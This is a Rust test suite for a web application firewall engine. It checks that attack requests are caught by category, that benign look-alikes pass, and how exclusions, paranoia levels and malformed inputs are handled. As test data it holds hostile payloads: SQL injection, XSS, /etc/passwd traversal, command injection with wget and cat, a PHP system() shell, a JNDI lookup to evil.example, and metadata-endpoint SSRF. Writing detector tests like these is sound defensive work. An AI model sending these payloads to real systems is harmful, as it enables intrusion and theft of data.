//! The inspector on requests of each category, benign look-alikes, exclusions, paranoia, and the
//! head/body split the gateway uses for streamed bodies.
#![allow(clippy::unwrap_used)]

use menwei_waf::{Category, Config, Engine, ExcludedRule, Exclusion, Request};

fn engine() -> &'static Engine {
    menwei_waf::shared().unwrap()
}

fn get(uri: &str) -> Request<'_> {
    Request {
        method: "GET",
        uri: uri.as_bytes(),
        headers: vec![
            ("Host", b"zwfw.example.gov.cn"),
            ("User-Agent", b"Mozilla/5.0"),
        ],
        names_lower: false,
        body: None,
        body_truncated: false,
    }
}

fn post<'a>(ctype: &'a str, body: &'a str) -> Request<'a> {
    Request {
        method: "POST",
        uri: b"/api/submit",
        headers: vec![
            ("Host", b"zwfw.example.gov.cn"),
            ("Content-Type", ctype.as_bytes()),
        ],
        names_lower: false,
        body: Some(body.as_bytes()),
        body_truncated: false,
    }
}

fn main_category(req: &Request<'_>) -> Option<Category> {
    let v = engine().inspect(&Config::default(), req);
    v.attack.then(|| v.main_category()).flatten()
}

#[test]
fn each_category_is_caught() {
    let cases: &[(&str, Category)] = &[
        (
            "/s?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
            Category::Sqli,
        ),
        ("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", Category::Xss),
        ("/download?file=../../../../etc/passwd", Category::Lfi),
        ("/s?page=http://198.51.100.7/shell.txt?", Category::Rfi),
        ("/ping?host=127.0.0.1%3Bcat%20/etc/passwd", Category::Rce),
        ("/s?cmd=%7Cwget%20http://x/y%20-O%20/tmp/z", Category::Rce),
        (
            "/s?x=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E",
            Category::Php,
        ),
        ("/s?x=%24%7Bjndi:ldap://evil.example/a%7D", Category::Java),
        (
            "/s?url=http://169.254.169.254/latest/meta-data/",
            Category::Generic,
        ),
        ("/s?tpl=%7B%7B7*7%7D%7D", Category::Generic),
        ("/s?x=a%0d%0aSet-Cookie:%20sid=1", Category::ProtocolAttack),
    ];
    for (uri, want) in cases {
        let v = engine().inspect(&Config::default(), &get(uri));
        assert!(v.attack, "{uri} not caught");
        assert!(
            v.hits.iter().any(|h| h.category == *want),
            "{uri}: {:?}",
            v.hits
        );
    }
    let mut scanner = get("/");
    scanner
        .headers
        .push(("User-Agent", b"sqlmap/1.7.2#stable (https://sqlmap.org)"));
    assert_eq!(main_category(&scanner), Some(Category::Scanner));
    assert_eq!(
        main_category(&post(
            "application/json",
            r#"{"user":{"__proto__":{"admin":true}}}"#
        )),
        Some(Category::Generic)
    );
    assert_eq!(
        main_category(&post(
            "application/x-www-form-urlencoded",
            "name=%27%20or%201%3D1--"
        )),
        Some(Category::Sqli)
    );
}

#[test]
fn benign_look_alikes_pass() {
    for uri in [
        "/search?q=how+to+select+a+district+office&sort=date_desc",
        "/search?q=O%27Brien+passport",
        "/search?q=%E7%A4%BE%E4%BF%9D+%E7%BC%B4%E8%B4%B9%EF%BC%88%E4%B8%AA%E4%BA%BA%EF%BC%89",
        "/api/v1/export?format=xlsx&fields=name,idCard,mobile",
        "/portal/news/1234.html?from=wechat&share=1",
        "/search?q=cat+%E7%8C%AB+%E9%A2%86%E5%85%BB",
    ] {
        let v = engine().inspect(&Config::default(), &get(uri));
        assert!(!v.attack, "{uri}: {:?}", v.hits);
    }
    let rich = r#"{"content":"<p><span style=\"color: #e03e2d;\">重要：</span><img src=\"/upload/a.png\" alt=\"照片\"></p>"}"#;
    let v = engine().inspect(&Config::default(), &post("application/json", rich));
    assert!(!v.attack, "{:?}", v.hits);
    let form = "password=P%40ssw0rd%212024&username=o%27connor&remark=%E6%95%B0%E9%87%8F%EF%BC%9A2+%E4%BB%BD%3B+%E9%87%91%E9%A2%9D%EF%BC%9A1%2C000.00";
    let v = engine().inspect(
        &Config::default(),
        &post("application/x-www-form-urlencoded", form),
    );
    assert!(!v.attack, "{:?}", v.hits);
}

#[test]
fn exclusions_by_rule_category_and_name() {
    let req = get("/s?content=%3Cscript%3Ealert(1)%3C/script%3E");
    let all = engine().inspect(&Config::default(), &req);
    assert!(all.attack);
    let by_cat = Config {
        exclusions: vec![Exclusion {
            rule: ExcludedRule::Category(Category::Xss),
            name: Some("Content".into()),
        }],
        ..Config::default()
    };
    assert!(!engine()
        .inspect(&by_cat, &req)
        .hits
        .iter()
        .any(|h| h.category == Category::Xss));
    let other_field = Config {
        exclusions: vec![Exclusion {
            rule: ExcludedRule::Category(Category::Xss),
            name: Some("title".into()),
        }],
        ..Config::default()
    };
    assert!(engine().inspect(&other_field, &req).attack);
    let ids: Vec<Exclusion> = all
        .rule_ids()
        .into_iter()
        .map(|id| Exclusion {
            rule: ExcludedRule::Id(id),
            name: None,
        })
        .collect();
    let by_id = Config {
        exclusions: ids,
        ..Config::default()
    };
    assert_eq!(engine().inspect(&by_id, &req).score, 0);
}

#[test]
fn paranoia_and_threshold() {
    // A trailing SQL comment alone is a paranoia-2 notice.
    let req = get("/s?q=abc--");
    let pl1 = engine().inspect(&Config::default(), &req);
    assert!(pl1.hits.iter().all(|h| h.rule != 942000));
    let pl2 = engine().inspect(
        &Config {
            paranoia: 2,
            ..Config::default()
        },
        &req,
    );
    assert!(pl2.hits.iter().any(|h| h.rule == 942000));
    assert!(!pl2.attack, "a notice alone stays under the threshold");
    let strict = Config {
        paranoia: 2,
        threshold: 2,
        ..Config::default()
    };
    assert!(engine().inspect(&strict, &req).attack);
}

#[test]
fn head_then_body_scores_like_the_whole() {
    let body = "a=1&b=%27%20or%20%271%27%3D%271&c=%3Csvg%20onload%3Dalert(1)%3E";
    let mut req = post("application/x-www-form-urlencoded", body);
    req.uri = b"/api/submit?x=..%2f..%2fetc%2fpasswd";
    let whole = engine().inspect(&Config::default(), &req);
    let head = engine().inspect_head(&Config::default(), &req);
    let split = engine().inspect_body(&Config::default(), &req, head);
    assert_eq!(whole.score, split.score);
    let mut a = whole.rule_ids();
    let mut b = split.rule_ids();
    a.sort_unstable();
    b.sort_unstable();
    assert_eq!(a, b);
}

#[test]
fn hostile_inputs_are_bounded() {
    // A megabyte parameter, deep JSON, invalid UTF-8, a broken multipart body: verdicts, no panic.
    let big = format!("/s?q={}", "%27".repeat(300_000));
    let _ = engine().inspect(&Config::default(), &get(&big));
    let deep = format!("{}1{}", "[".repeat(5000), "]".repeat(5000));
    let v = engine().inspect(&Config::default(), &post("application/json", &deep));
    assert!(
        v.hits.iter().any(|h| h.rule == 920600),
        "deep JSON is flagged"
    );
    let bad = Request {
        method: "POST",
        uri: b"/s?q=\xff\xfe%c0",
        headers: vec![("Host", b"h"), ("Content-Type", b"text/plain")],
        names_lower: false,
        body: Some(b"\xff\x00\xc3"),
        body_truncated: false,
    };
    let _ = engine().inspect(&Config::default(), &bad);
    let v = engine().inspect(
        &Config::default(),
        &post(
            "multipart/form-data; boundary=zz",
            "--zz\r\nno headers here",
        ),
    );
    assert!(v.attack && v.hits.iter().any(|h| h.rule == 922130));
}

#[test]
fn json_bodies_are_walked_as_they_parse() {
    let cfg = Config::default();
    let hits = |body: &str| -> Vec<u32> {
        engine()
            .inspect(&cfg, &post("application/json", body))
            .rule_ids()
    };
    // 64 levels of containers are read; 65 are refused as invalid JSON.
    let nested = |n: usize| format!("{}\"x\"{}", "[".repeat(n), "]".repeat(n));
    assert!(!hits(&nested(64)).contains(&920600));
    assert!(hits(&nested(65)).contains(&920600));
    assert!(hits("{\"a\": [1, 2,").contains(&920600), "truncated JSON");
    assert!(
        hits("{\"a\": 1} trailing").contains(&920600),
        "trailing bytes"
    );
    // Every member of a duplicated name is inspected, not only the last one.
    let dup = r#"{"q": "' union select password from users--", "q": "safe"}"#;
    let v = engine().inspect(&cfg, &post("application/json", dup));
    assert!(
        v.attack && v.main_category() == Some(Category::Sqli),
        "{v:?}"
    );
    // Past the argument cap the rest is flagged, not inspected.
    let many = format!("[{}]", vec!["1"; 1100].join(","));
    assert!(hits(&many).contains(&920380));
    assert!(!hits("[1, 2, 3]").contains(&920380));
}

/// IIS `%uFFxx` (rule 920260), in the target and in a body, either case; other `%u` escapes and
/// bodies full of `u`s and `%`s are not it.
#[test]
fn iis_full_width_escapes() {
    let fired = |v: menwei_waf::Verdict| v.hits.iter().any(|h| h.rule == 920260);
    let cfg = Config::default();
    for uri in [
        "/s?q=%uff1cscript%uff1e",
        "/s?q=%UFF1C",
        "/s?q=x%uFf1c",
        "/%uff0e%uff0e/",
    ] {
        assert!(fired(engine().inspect(&cfg, &get(uri))), "{uri}");
    }
    for uri in [
        "/s?q=%u4e2d",
        "/s?q=%uf",
        "/s?q=uff",
        "/s?q=%25uff",
        "/s?q=%u",
    ] {
        assert!(!fired(engine().inspect(&cfg, &get(uri))), "{uri}");
    }
    let form = "application/x-www-form-urlencoded";
    assert!(fired(engine().inspect(&cfg, &post(form, "a=1&b=%uFF1c"))));
    let json = "application/json";
    let names = r#"{"user":"u","number":"%u4e2d%E5%BC%A0","uuu":"%%uf"}"#;
    assert!(!fired(engine().inspect(&cfg, &post(json, names))));
    assert!(fired(
        engine().inspect(&cfg, &post(json, r#"{"q":"%UfF1c"}"#))
    ));
}
